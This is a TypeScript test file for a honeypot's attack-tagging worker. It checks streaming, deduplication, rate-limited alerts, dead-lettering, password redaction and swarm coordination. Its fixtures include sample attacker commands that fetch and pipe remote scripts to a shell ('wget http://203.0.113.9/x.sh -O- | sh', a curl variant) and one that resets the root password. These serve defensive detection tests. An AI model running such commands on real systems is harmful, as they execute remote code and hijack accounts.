import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { Bus, BusMessage } from '../src/bus/bus.js'
import { eventMessages } from '../src/bus/event-messages.js'
import { MemoryBus } from '../src/bus/memory/memory-bus.js'
import type { DeadLetterPayload, HealthPayload, RuleSuppressedPayload } from '../src/bus/payloads.js'
import { subjectDefinition } from '../src/bus/subject-table.js'
import * as subjects from '../src/bus/subjects.js'
import type { TaggerEvent } from '../src/events/tagger-event.js'
import type { EventPipeline } from '../src/pipeline/event-pipeline.js'
import type { Database } from '../src/storage/database.js'
import { leaveEvents } from '../src/storage/events/leave-events.js'
import { openSqliteDatabase } from '../src/storage/sqlite/open-sqlite-database.js'
import { knownWorkers, reportWorker } from '../src/storage/swarm/workers.js'
import { keepVerdicts } from '../src/storage/verdicts.js'
import { AttackReleaseMismatchError } from '../src/worker/attack-release-mismatch-error.js'
import { WORKER_SUBSCRIPTIONS } from '../src/worker/subscriptions.js'
import { type BatchRun, closingEvent, runBatch, shippedPipeline, storedTags } from './support/batch-run.js'
import { captureLines } from './support/capture.js'
import { TEST_KEY } from './support/correlate.js'
import { Announced, idsOf, startWorker } from './support/swarm.js'
import { commandEvent, testEvent } from './support/tagging.js'

let pipeline: EventPipeline
let batch: BatchRun
let database: Database
let bus: MemoryBus

beforeAll(async () => {
  pipeline = await shippedPipeline()
  batch = await runBatch(captureLines(), pipeline)
})
beforeEach(async () => {
  database = await openSqliteDatabase('sqlite::memory:')
  bus = new MemoryBus()
})
afterEach(async () => {
  await bus.close()
  await database.close()
})

async function publishEvents(events: readonly TaggerEvent[], prefix = ''): Promise<void> {
  const { messages } = eventMessages(events, bus.capabilities.maxPayloadBytes)
  for (const { id, ...message } of messages) await bus.publish({ ...message, id: prefix + id })
}

/** Everything that is published on a pattern from now on. */
async function listen(on: Bus, pattern: string): Promise<readonly BusMessage[]> {
  const messages: BusMessage[] = []
  await on.subscribe(pattern, (message) => {
    messages.push(message)
    return { kind: 'ack' }
  })
  return messages
}

async function tagCount(): Promise<number> {
  return (await storedTags(database)).length
}

async function eventKinds(): Promise<readonly string[]> {
  const rows = await database.queries.selectFrom('ttp_event').select('source_kind').execute()
  return rows.map(({ source_kind }) => source_kind)
}

/** Events that somebody else has left in the database. */
function leave(events: readonly TaggerEvent[]): Promise<void> {
  return leaveEvents(database, events, TEST_KEY)
}

const DOWNLOAD = commandEvent('wget http://203.0.113.9/x.sh -O- | sh')
const ATTACKER = DOWNLOAD.attackerUuid!

describe('a worker', () => {
  it('finds in a stream what a batch finds in the file, and announces each tag once', async () => {
    await using announced = await Announced.on(bus)
    const worker = await startWorker({ database, bus, pipeline })
    await publishEvents([...batch.events, closingEvent(batch.events)])
    await expect.poll(tagCount).toBe(batch.tags.length)
    expect(await storedTags(database)).toEqual(batch.tags)
    await expect.poll(() => [...announced.tagIds].sort()).toEqual([...idsOf(batch.tags)].sort())
    await worker.drain()
  })

  it('finds the same when it is stopped and started over and over, and replays in silence', async () => {
    await using announced = await Announced.on(bus)
    const all = [...batch.events, closingEvent(batch.events)]
    for (let part = 0; part < 10; part++) {
      const worker = await startWorker({ database, bus, pipeline })
      await publishEvents(all.slice((part * all.length) / 10, ((part + 1) * all.length) / 10))
      await worker.drain()
    }
    const worker = await startWorker({ database, bus, pipeline })
    await expect.poll(tagCount).toBe(batch.tags.length)
    await publishEvents(all, 'again-')
    await expect
      .poll(async () => (await knownWorkers(database)).filter(({ isAlive }) => isAlive).map(({ lag }) => lag))
      .toEqual([0])
    expect(await storedTags(database)).toEqual(batch.tags)
    await worker.drain()
    expect([...announced.tagIds].sort()).toEqual([...idsOf(batch.tags)].sort())
  })

  it('subscribes to the subjects that the table names as coming in, and to no other', () => {
    const incoming = WORKER_SUBSCRIPTIONS.map(({ subject }) => subjectDefinition(subject.replace(/[*>]$/, 'x')))
    expect(incoming.every((definition) => definition?.direction === 'in')).toBe(true)
    expect(new Set(WORKER_SUBSCRIPTIONS.map(({ durable }) => durable)).size).toBe(WORKER_SUBSCRIPTIONS.length)
    expect(WORKER_SUBSCRIPTIONS.map(({ subject }) => subject).sort()).toEqual([
      'attacker.fingerprinted',
      'attacker.intel.enriched',
      'attacker.observed',
      'attacker.session.ended',
      'canary.>',
      'credential.reuse.detected',
      'email.received',
      'identity.formed',
      'identity.merged',
      'ttp.event.*',
    ])
  })

  it('settles after one round with a subscriber that sends everything again when tags were added', async () => {
    let rounds = 0
    await bus.subscribe(subjects.TTP_TAGGED, async () => {
      rounds++
      await publishEvents([DOWNLOAD], `round-${rounds}-`)
      return { kind: 'ack' }
    })
    const worker = await startWorker({ database, bus, pipeline })
    await publishEvents([DOWNLOAD])
    await expect.poll(() => rounds).toBe(1)
    await worker.drain()
    expect(rounds).toBe(1)
  })

  it('announces an event once that is delivered ten times', async () => {
    await using announced = await Announced.on(bus)
    const worker = await startWorker({ database, bus, pipeline })
    await Promise.all(Array.from({ length: 10 }, (_, index) => publishEvents([DOWNLOAD], `${index}-`)))
    await worker.drain()
    await expect.poll(() => announced.tagIds.length).toBe(await tagCount())
    expect(new Set(announced.tagIds).size).toBe(announced.tagIds.length)
  })

  it('holds back announcements of one rule for one attacker, keeps the tags, and says how many', async () => {
    const suppressed = await listen(bus, subjects.TTP_RULE_SUPPRESSED)
    const fired = await listen(bus, 'ttp.rule.fired.*')
    const worker = await startWorker({ database, bus, pipeline, firedPerMinute: 2 })
    await publishEvents(Array.from({ length: 5 }, (_, index) => commandEvent(`wget http://203.0.113.9/${index}.sh`)))
    await expect.poll(tagCount).toBeGreaterThan(0)
    await worker.drain()
    const rows = await database.queries.selectFrom('ttp_tag').select(['rule_id', 'uuid']).execute()
    const of = (rule: string) => rows.filter(({ rule_id }) => rule_id === rule).length
    expect(of('R0012')).toBe(5)
    const firedOf = (rule: string) => fired.filter(({ payload }) => (payload as { rule_id: string }).rule_id === rule)
    await expect.poll(() => firedOf('R0012').length).toBe(2)
    await expect.poll(() => suppressed.length).toBeGreaterThan(0)
    const told = suppressed.map(({ payload }) => payload as RuleSuppressedPayload)
    expect(told.find(({ rule_id }) => rule_id === 'R0012')).toMatchObject({ attacker_uuid: ATTACKER, suppressed: 3 })
  })

  it('buries what it cannot read, piece by piece, with the reason, and loses nothing beside it', async () => {
    const letters = await listen(bus, 'deadletter.>')
    const worker = await startWorker({ database, bus, pipeline })
    const [message] = eventMessages([DOWNLOAD], bus.capabilities.maxPayloadBytes).messages
    const good = (message!.payload as { events: object[] }).events[0]!
    const secret = { command_text: 'echo root:Tr0ub4dor | chpasswd', password: 'Tr0ub4dor' }
    const poison = [{ ...good, observed_at: 'never', payload: secret }, { ...good, source_kind: 'intel' }, 'text']
    await bus.publish({ ...message!, id: 'mixed', payload: { events: [poison[0], good, poison[1], poison[2]] } })
    await bus.publish({ ...message!, id: 'shapeless', payload: { nothing: true } })
    await bus.publish({ subject: subjects.IDENTITY_FORMED, id: 'bad', payload: { identity_uuid: 7 } })
    await expect.poll(() => letters.length).toBe(5)
    await expect.poll(tagCount).toBeGreaterThan(0)
    expect(JSON.stringify(letters)).not.toContain('Tr0ub4dor')
    const told = letters.map(({ subject, payload }) => [subject, (payload as DeadLetterPayload).reason])
    expect(told).toContainEqual(['deadletter.ttp.event.command', 'the message has no list of events'])
    expect(told).toContainEqual([
      'deadletter.identity.formed',
      'not as identity.formed has it: identity_uuid, attacker_uuids',
    ])
    await worker.drain()
  })

  it('keeps no password, and no secret of a command', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    await publishEvents([
      commandEvent('echo root:Tr0ub4dor | chpasswd'),
      testEvent({ sourceKind: 'auth_attempt', payload: { username: 'root', password: 'Tr0ub4dor', success: true } }),
    ])
    await expect.poll(async () => (await eventKinds()).length).toBe(2)
    await worker.drain()
    for (const table of ['ttp_event', 'ttp_tag', 'ttp_outbox', 'ttp_progress'] as const) {
      expect(JSON.stringify(await database.queries.selectFrom(table).selectAll().execute())).not.toContain('Tr0ub4dor')
    }
    expect([...(await eventKinds())].sort()).toEqual(['auth_attempt', 'command'])
  })
})

describe('what others complete', () => {
  it('is found at the end of a session where the message that told of it was lost', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    await leave([DOWNLOAD])
    const ended = { session_id: 's', attacker_uuid: ATTACKER, decky_id: null, ended_at: '2026-11-20T09:00:00Z' }
    await bus.publish({ subject: subjects.ATTACKER_SESSION_ENDED, id: 'ended', payload: ended })
    await expect.poll(tagCount).toBeGreaterThan(0)
    await worker.drain()
  })

  it.each([
    [subjects.ATTACKER_OBSERVED, { attacker_uuid: ATTACKER, source_ip: null, observed_at: '2026-11-20T09:00:00Z' }],
    [subjects.ATTACKER_FINGERPRINTED, { attacker_uuid: ATTACKER, session_id: null, metric: 'ja4' }],
    [
      subjects.EMAIL_RECEIVED,
      { source_id: DOWNLOAD.sourceId, attacker_uuid: null, decky_id: null, observed_at: '2026-11-20T09:00:00Z' },
    ],
  ])('is judged when %s tells of it', async (subject, payload) => {
    const worker = await startWorker({ database, bus, pipeline })
    await leave([DOWNLOAD])
    await bus.publish({ subject, id: 'told', payload })
    await expect.poll(tagCount).toBeGreaterThan(0)
    await worker.drain()
  })

  it('is found by a look at the database where nobody tells of anything', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    await leave([DOWNLOAD])
    await expect.poll(tagCount).toBeGreaterThan(0)
    await worker.drain()
  })

  const verdict = testEvent({
    sourceKind: 'intel',
    sourceIp: DOWNLOAD.sourceIp,
    payload: { provider: 'abuseipdb', classification: 'malicious', score: 1, categories: ['18', '22'] },
  })
  const asserted = async () =>
    (await database.queries.selectFrom('ttp_tag').select('uuid').where('basis', '=', 'asserted').execute()).length

  it('waits for an attacker to be seen, whichever of verdict and attacker comes first', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    await publishEvents([verdict])
    await expect
      .poll(async () => (await database.queries.selectFrom('ttp_verdict').selectAll().execute()).length)
      .toBe(1)
    expect(await asserted()).toBe(0)
    await publishEvents([DOWNLOAD])
    await expect.poll(asserted).toBeGreaterThan(0)
    await worker.drain()
  })

  it('is judged when a provider has answered about one who was seen', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    await publishEvents([DOWNLOAD])
    await expect.poll(tagCount).toBeGreaterThan(0)
    await keepVerdicts(database, [verdict])
    const enriched = { attacker_uuid: ATTACKER, provider: 'abuseipdb', intel_id: 'x' }
    await bus.publish({ subject: subjects.ATTACKER_INTEL_ENRICHED, id: 'told', payload: enriched })
    await expect.poll(asserted).toBeGreaterThan(0)
    await worker.drain()
  })

  it('gives later tags the identity that is known by then, and leaves earlier ones', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    await publishEvents([DOWNLOAD])
    await expect.poll(tagCount).toBeGreaterThan(0)
    const identity_uuid = '6c2f7a1e-3b7d-5c58-9d0e-0f4f6d1c9b01'
    const merged = '6c2f7a1e-3b7d-5c58-9d0e-0f4f6d1c9b02'
    const formed = { identity_uuid: merged, attacker_uuids: [ATTACKER] }
    await bus.publish({ subject: subjects.IDENTITY_FORMED, id: 'formed', payload: formed })
    const merger = { identity_uuid, merged_uuids: [merged] }
    await bus.publish({ subject: subjects.IDENTITY_MERGED, id: 'merged', payload: merger })
    await expect
      .poll(async () => (await database.queries.selectFrom('ttp_identity_alias').selectAll().execute()).length)
      .toBe(1)
    const later = commandEvent('curl http://203.0.113.9/later.sh | sh')
    await publishEvents([later])
    await expect.poll(async () => (await eventKinds()).length).toBe(2)
    await worker.drain()
    const rows = await database.queries.selectFrom('ttp_tag').select(['source_id', 'identity_uuid']).execute()
    const identities = (of: TaggerEvent) =>
      new Set(rows.filter(({ source_id }) => source_id === of.sourceId).map((row) => row.identity_uuid))
    expect(identities(DOWNLOAD)).toEqual(new Set([null]))
    expect(identities(later)).toEqual(new Set([identity_uuid]))
  })

  it('takes the reuse of a credential for what our own correlation would conclude', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    const reuse = { attacker_uuids: [ATTACKER], targets: 12, observed_at: '2026-11-20T09:00:00Z' }
    await bus.publish({ subject: subjects.CREDENTIAL_REUSE_DETECTED, id: 'reuse', payload: reuse })
    await expect.poll(tagCount).toBeGreaterThan(0)
    const [row] = await database.queries.selectFrom('ttp_tag').selectAll().execute()
    expect(row).toMatchObject({ technique_id: 'T1110', source_kind: 'credential', attacker_uuid: ATTACKER })
    await worker.drain()
  })

  it('takes a triggered canary for an act, and what an operator does to it for none', async () => {
    const worker = await startWorker({ database, bus, pipeline })
    const act = { token_id: 'token', attacker_uuid: ATTACKER, observed_at: '2026-11-20T09:00:00Z' }
    await bus.publish({ subject: subjects.canary('placed'), id: 'placed', payload: { any: 'thing' } })
    await bus.publish({ subject: subjects.canary('triggered'), id: 'triggered', payload: act })
    await expect.poll(eventKinds).toEqual(['canary'])
    await worker.drain()
    expect(await listen(bus, 'deadletter.>')).toEqual([])
  })
})

describe('membership of a swarm', () => {
  it('is told to the registry and the bus, with rules, release and lag, to the end', async () => {
    const health = await listen(bus, 'system.*.health')
    const worker = await startWorker({ database, bus, pipeline, name: 'one', stateSeq: () => 7 })
    const expected = {
      worker: 'one',
      ruleset_hash: pipeline.ruleset.hash,
      attack_release: 'enterprise-19.1',
      state_seq: 7,
    }
    expect(await knownWorkers(database)).toMatchObject([{ ...expected, state: 'running', isAlive: true, lag: 0 }])
    await worker.drain()
    expect(await knownWorkers(database)).toMatchObject([{ ...expected, state: 'stopped', isAlive: false }])
    await expect
      .poll(() => health.map(({ payload }) => (payload as HealthPayload).state))
      .toEqual(['running', 'draining', 'stopped'])
  })

  it('is refused where another release of ATT&CK is at work, and not where it has gone', async () => {
    const other = {
      worker: 'old',
      state: 'running' as const,
      roles: 'tagging',
      host: 'host',
      attack_release: 'enterprise-18.0',
      ruleset_hash: 'abc',
      state_seq: null,
      lag: 0,
    }
    await reportWorker(database, other)
    await expect(startWorker({ database, bus, pipeline })).rejects.toThrow(AttackReleaseMismatchError)
    await reportWorker(database, { ...other, state: 'stopped' })
    const worker = await startWorker({ database, bus, pipeline })
    await worker.drain()
  })

  it('ends when the bus says so, and reloads the rules', async () => {
    let reloads = 0
    const reloadRules = async () => void reloads++
    const worker = await startWorker({ database, bus, pipeline, name: 'one', reloadRules })
    const tell = (command: string) =>
      bus.publish({ subject: subjects.systemControl('one'), id: command, payload: { command } })
    await tell('reload')
    await expect.poll(() => reloads).toBe(1)
    await tell('drain')
    await worker.ended
    await worker.drain()
  })
})
